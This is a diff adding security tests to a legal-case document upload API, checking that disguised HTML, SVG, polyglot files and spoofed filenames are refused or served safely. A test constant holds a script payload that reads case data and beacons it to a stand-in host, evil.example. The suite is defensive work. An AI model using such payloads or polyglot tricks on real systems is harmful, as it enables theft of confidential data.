@@ -83,3 +83,83 @@ describe('documents of a case', () => {
     expect(bad.status).toBe(404);
   });
 });
+
+describe('HTML in disguise never comes back as HTML', () => {
+  const upload = (name: string, mimeType: string, bytes: Buffer) =>
+    op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name, mimeType, contentBase64: bytes.toString('base64') });
+  const download = (id: string) => t.app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${id}`, headers: { cookie: op.cookie } });
+  const SCRIPT = '<html><body><script>fetch("/api/cases").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';
+  // A PDF/HTML polyglot: a valid PDF header, the page in a PDF comment right after it, then a minimal PDF.
+  const polyglot = Buffer.from(
+    `%PDF-1.4\n%${SCRIPT}\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
+  );
+
+  it.each([
+    ['a PDF/HTML polyglot (the page in its first kilobyte)', 'referto.pdf', 'application/pdf', polyglot],
+    ['HTML declared as plain text', 'nota.txt', 'text/plain', Buffer.from(`Appunti\n${SCRIPT}`)],
+    ['an SVG declared as plain text', 'nota.txt', 'text/plain', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
+    ['an SVG declared as a PNG', 'foto.png', 'image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
+    ['HTML with a byte-order mark declared as plain text', 'x.txt', 'text/plain', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<!DOCTYPE html><p>ciao')])],
+    ['a PNG carrying a page right after its signature', 'foto.png', 'image/png', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SCRIPT)])],
+  ])('refuses %s', async (_label, name, mimeType, bytes) => {
+    const res = await upload(name, mimeType, bytes);
+    expect(res.status, JSON.stringify(res.body)).toBe(400);
+    expect(res.body.errors).toContainEqual(expect.objectContaining({ pointer: '/body/mimeType', code: 'content_type_mismatch' }));
+  });
+
+  it('keeps plain text that merely holds < and >', async () => {
+    const res = await upload('appunti.txt', 'text/plain', Buffer.from('Rischio <3 su 5 -> rivalutare; a < b e c > d.\n<<importante>>'));
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+  });
+
+  it.each([
+    ['ricevuta.html', 'application/pdf', pdf, 'ricevuta.pdf'],
+    ['ricevuta.HTM', 'application/pdf', pdf, 'ricevuta.pdf'],
+    ['pagina.xhtml', 'text/plain', Buffer.from('solo testo'), 'pagina.txt'],
+    ['disegno.svg', 'image/png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'disegno.png'],
+    ['ricevuta.html.', 'application/pdf', pdf, 'ricevuta.pdf'],
+    ['ricevuta.html ', 'application/pdf', pdf, 'ricevuta.pdf'],
+    ['relazione\u202Efdp.html', 'application/pdf', pdf, 'relazionefdp.pdf'],
+    ['Relazione avv. Bianchi', 'application/pdf', pdf, 'Relazione avv. Bianchi.pdf'],
+    ['foto.JPG', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]), 'foto.JPG'],
+    ['scansione.jpeg', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]), 'scansione.jpeg'],
+  ])('stores %j declared %s under a name ending as its type says', async (name, mimeType, bytes, expected) => {
+    const up = await upload(name, mimeType, bytes);
+    expect(up.status, JSON.stringify(up.body)).toBe(201);
+    const listed = (await op.request('GET', `/api/cases/${caseId}/documents`)).body.find((d: { id: string }) => d.id === up.body.id);
+    expect(listed.name).toBe(expected);
+    const res = await download(up.body.id);
+    expect(String(res.headers['content-disposition'])).toContain(`filename*=UTF-8''${encodeURIComponent(expected)}`);
+    expect(String(res.headers['content-disposition'])).not.toMatch(/\.(html?|xhtml|svg)\b/i);
+  });
+
+  it('downloads as an attachment of the checked type, never sniffed, never rendered', async () => {
+    // A polyglot whose page lies past the first kilobyte is a PDF for every reader that sniffs: it is accepted as one.
+    const late = Buffer.from(`%PDF-1.4\n%${'x'.repeat(1100)}\n%${SCRIPT}\n%%EOF\n`);
+    const up = await upload('pagina.html', 'application/pdf', late);
+    expect(up.status, JSON.stringify(up.body)).toBe(201);
+    const res = await download(up.body.id);
+    expect(res.statusCode).toBe(200);
+    expect(res.headers['content-type']).toBe('application/pdf');
+    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="pagina\.pdf"/);
+    expect(res.headers['x-content-type-options']).toBe('nosniff');
+    expect(String(res.headers['content-security-policy'])).toContain('sandbox');
+    expect(String(res.headers['content-security-policy'])).toContain("default-src 'none'");
+    const text = await upload('nota.txt', 'text/plain', Buffer.from('testo'));
+    expect((await download(text.body.id)).headers['content-type']).toBe('text/plain; charset=utf-8');
+  });
+
+  it('a document stored before these rules (an .html name) still downloads under a safe name', async () => {
+    const up = await upload('vecchio.pdf', 'application/pdf', pdf);
+    const { seal } = await import('../../src/server/modules/cases/cases.seal.js');
+    const { caseDocuments } = await import('../../src/server/modules/cases/cases.tables.js');
+    const { eq } = await import('drizzle-orm');
+    await t.db.transaction(async (tx) => {
+      const [row] = await tx.select().from(caseDocuments).where(eq(caseDocuments.id, up.body.id));
+      const nameSealed = (await seal(t.ctx.crypto, tx, row!.organisationId, 'case_document.name', up.body.id, 'vecchio.html'))!;
+      await tx.update(caseDocuments).set({ nameSealed }).where(eq(caseDocuments.id, up.body.id));
+    });
+    const res = await download(up.body.id);
+    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="vecchio\.pdf"/);
+  });
+});
